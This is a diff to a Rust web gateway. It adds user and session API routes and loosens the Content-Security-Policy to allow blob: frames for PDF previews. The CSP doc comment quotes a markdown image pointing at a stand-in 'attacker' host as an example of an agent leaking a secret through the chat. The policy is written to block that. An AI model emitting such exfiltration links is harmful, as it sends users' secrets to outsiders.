@@ -43,6 +43,7 @@ pub use users::Items;
         auth::me,
         auth::bootstrap,
         users::list,
+        users::get,
         users::create,
         users::delete,
         users::update,
@@ -58,6 +59,8 @@ pub use users::Items;
         workspaces::get,
         workspaces::delete,
         sessions::list,
+        sessions::list_all,
+        sessions::update,
         sessions::create,
         sessions::get,
         sessions::delete,
@@ -82,7 +85,7 @@ pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
         .route("/auth/password", put(users::change_password))
         .route(
             "/users/{username}",
-            delete(users::delete).patch(users::update),
+            get(users::get).delete(users::delete).patch(users::update),
         )
         .route("/users/{username}/password", put(users::reset_password))
         .route("/keys", get(users::list_keys).post(users::create_key))
@@ -101,9 +104,12 @@ pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
             "/workspaces/{workspace}/sessions",
             get(sessions::list).post(sessions::create),
         )
+        .route("/sessions", get(sessions::list_all))
         .route(
             "/workspaces/{workspace}/sessions/{session}",
-            get(sessions::get).delete(sessions::delete),
+            get(sessions::get)
+                .patch(sessions::update)
+                .delete(sessions::delete),
         )
         .route(
             "/workspaces/{workspace}/sessions/{session}/suspend",
@@ -151,12 +157,15 @@ pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
 
 /// What the UI may load: its own scripts and styles, images only from itself (an agent that
 /// writes `![](https://attacker/?secret)` into the chat cannot make the browser send data
-/// anywhere), connections only to the gateway, no framing, no plugins. Inline styles are
-/// allowed for the terminal, which sets its own.
+/// anywhere), connections only to the gateway, no framing of the UI, no plugins. Inline styles are
+/// allowed for the terminal, which sets its own. Frames only of `blob:` URLs, which only the UI's
+/// own scripts create: the Files tab shows a PDF as a blob typed `application/pdf` in a frame (the
+/// browser's PDF viewer; `frame-src` would otherwise fall back to `default-src 'self'`, which
+/// does not match `blob:`). Nothing may frame the UI itself (`frame-ancestors`).
 pub const CONTENT_SECURITY_POLICY: &str = "default-src 'self'; script-src 'self'; \
     style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; \
-    font-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'; \
-    frame-ancestors 'none'";
+    font-src 'self' data:; object-src 'none'; frame-src blob:; base-uri 'none'; \
+    form-action 'self'; frame-ancestors 'none'";
 
 #[utoipa::path(get, path = "/api/health", tag = "health", responses((status = 200)))]
 async fn health() -> Json<Value> {
